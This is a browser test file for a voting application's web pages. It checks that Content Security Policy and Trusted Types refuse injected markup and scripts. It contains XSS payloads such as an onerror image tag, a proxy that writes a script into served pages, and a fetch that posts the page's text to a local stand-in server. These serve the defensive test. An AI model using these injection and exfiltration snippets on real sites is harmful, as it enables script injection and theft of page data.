/** A script that has found its way into a page, against the policies of both services' pages. */

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";

import { alter } from "../proxy.js";
import { t } from "../words.js";
import { HTML } from "./common.js";

/** @typedef {import("../scene.js").Scene} Scene */
/** @typedef {import("../scene.js").Story} Story */

/** Turning a string into markup or code throws on every page, and nothing that is written in or comes from elsewhere runs or is loaded. @param {Story} story */
export function aboutScripts(story) {
  story("on the booth's pages", async (scene) => {
    await scene.open();
    await scene.page.getByRole("button", { name: t("start-action") }).waitFor();
    await isPowerless(scene);
    await scene.page.reload();
    await scene.vote();
    await isPowerless(scene);
  });

  story("on the ballot box's other pages", async (scene) => {
    const { ballot_box } = scene.stage.services;
    for (const path of ["", "/receipt", "/result", "/ballots", "/check"]) await isPowerless(scene, `${ballot_box}/polls/${scene.poll}${path}`);
    for (const path of ["/", "/receipts"]) await isPowerless(scene, ballot_box + path);
    scene.visitor.expected(404);
    await isPowerless(scene, `${ballot_box}/nothing`);
  });

  story("on the registrar's pages", async (scene) => {
    const { registrar } = scene.stage.services;
    await scene.begin();
    await scene.page.getByRole("button", { name: /^Continue to/ }).click();
    await scene.heading("Collect your voting pass");
    await isPowerless(scene);
    for (const path of ["/", "/me", "/admin/polls", "/register", "/sign-in"]) await isPowerless(scene, registrar + path);
  });

  story("by a service that wrote it into the page", async (scene) => {
    const { page, visitor } = scene;
    excuse(visitor);
    visitor.expected(404);
    for (const path of ["/booth", "/receipt", ""]) {
      const address = scene.booth.replace("/booth", path);
      const honest = scene.stage.services.proxies.ballotBox.meddle("GET", new RegExp(`^/polls/${scene.poll}${path}$`), alter((body) => body.replace("</body>", `<p id="written">${HTML}</p></body>`)));
      const told = page.waitForEvent("console", (message) => message.text().includes("script-src"));
      await page.goto(address);
      await told;
      assert.equal(await page.locator("#written script").count(), 1, "it is there");
      assert.equal(await page.evaluate(() => "hacked" in window), false, path);
      await visitor.shoot("written", page);
      honest();
    }
  });
}

/** What is refused is told on the console. @param {import("../chromium.js").Visitor} visitor */
function excuse(visitor) {
  for (const words of ["Content Security ", "This document requires 'Trusted"]) visitor.expected(words);
}

/**
 * Tries everything on the page that is open, or on another.
 * @param {Scene} scene @param {string} [address]
 */
async function isPowerless({ page, visitor }, address) {
  if (address) await page.goto(address);
  const where = new URL(page.url()).pathname;
  let asked = 0;
  const server = createServer((_, response) => response.end(String(++asked))).listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = /** @type {import("node:net").AddressInfo} */ (server.address());
  const elsewhere = `http://127.0.0.1:${port}`;
  excuse(visitor);
  // Playwright takes for a request what was refused before it was one.
  visitor.hosts.push(elsewhere);
  assert.deepEqual(await page.evaluate(assignStrings), THROWN, where);
  const told = await page.evaluate(slipIn, elsewhere);
  assert.deepEqual(told, REFUSED, where);
  assert.equal(await page.evaluate(() => "hacked" in window), false, where);
  assert.equal(asked, 0, `${where}: nobody else is asked for anything`);
  server.closeAllConnections();
  server.close();
  // What was slipped in has no words for those who cannot see it, so that axe does not look. Where it began to go elsewhere and was kept
  // from it, the page counts as one that has yet to load.
  await visitor.shoot("slipped-in", page, { loaded: false });
}

/** What each way to make markup or code of a string throws. */
function assignStrings() {
  const [markup, code] = ["<img src=x onerror='hacked=1'>", "window.hacked = 1"];
  const place = document.createElement("div");
  const script = document.createElement("script");
  const ways = {
    innerHTML: () => void (place.innerHTML = markup),
    outerHTML: () => void (document.body.appendChild(place).outerHTML = markup),
    insertAdjacentHTML: () => place.insertAdjacentHTML("beforeend", markup),
    "document.write": () => document.write(markup),
    DOMParser: () => void new DOMParser().parseFromString(markup, "text/html"),
    createContextualFragment: () => void document.createRange().createContextualFragment(markup),
    srcdoc: () => void (document.createElement("iframe").srcdoc = markup),
    "script.src": () => void (script.src = "/booth/main.js"),
    "script.text": () => void (script.text = code),
    setTimeout: () => void setTimeout(code, 0),
    "a policy of one's own": () => void Reflect.get(window, "trustedTypes").createPolicy("mine", { createHTML: String }),
  };
  return Object.fromEntries(
    Object.entries(ways).map(([name, way]) => {
      try {
        way();
        return [name, "nothing"];
      } catch (error) {
        return [name, error instanceof Error ? error.name : String(error)];
      }
    }),
  );
}

const THROWN = Object.fromEntries(
  ["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "DOMParser", "createContextualFragment", "srcdoc", "script.src", "script.text", "setTimeout", "a policy of one's own"].map(
    (name) => [name, "TypeError"],
  ),
);

/** Puts things into the page without any string becoming markup, and returns what the policy is told to have refused. @param {string} elsewhere an address */
async function slipIn(elsewhere) {
  /** @type {Set<string>} */
  const told = new Set();
  const listen = (/** @type {SecurityPolicyViolationEvent} */ { effectiveDirective, blockedURI }) =>
    told.add(`${effectiveDirective} ${blockedURI.startsWith(elsewhere) ? "elsewhere" : blockedURI}`);
  document.addEventListener("securitypolicyviolation", listen);
  const put = (/** @type {string} */ tag, /** @type {{ [name: string]: string }} */ attributes = {}, text = "") => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.append(text);
    return document.body.appendChild(element);
  };
  put("script", {}, "window.hacked = 1");
  put("style", {}, "body { color: red }");
  put("p", { style: "color: red" });
  put("img", { src: `${elsewhere}/picture.png` });
  put("link", { rel: "stylesheet", href: `${elsewhere}/style.css` });
  put("iframe", { src: `${elsewhere}/frame` });
  put("video", { src: `${elsewhere}/film` });
  put("base", { href: `${elsewhere}/` });
  await fetch(`${elsewhere}/call`, { method: "POST", mode: "no-cors", body: document.body.innerText }).catch(() => {});
  const form = put("form", { action: `${elsewhere}/form`, method: "post" });
  if (form instanceof HTMLFormElement) form.submit();
  // The policy tells asynchronously; whatever it has not told within this time it has not seen.
  for (let tries = 0; tries < 7500 && told.size < 10; tries++) await new Promise((resolve) => setTimeout(resolve, 20));
  document.removeEventListener("securitypolicyviolation", listen);
  return [...told].sort();
}

const REFUSED = [
  "base-uri elsewhere",
  "connect-src elsewhere",
  "form-action elsewhere",
  "frame-src elsewhere",
  "img-src elsewhere",
  "media-src elsewhere",
  // The inline script: its text is a string that was never trusted.
  "require-trusted-types-for trusted-types-sink",
  "style-src-attr inline",
  "style-src-elem elsewhere",
  "style-src-elem inline",
];
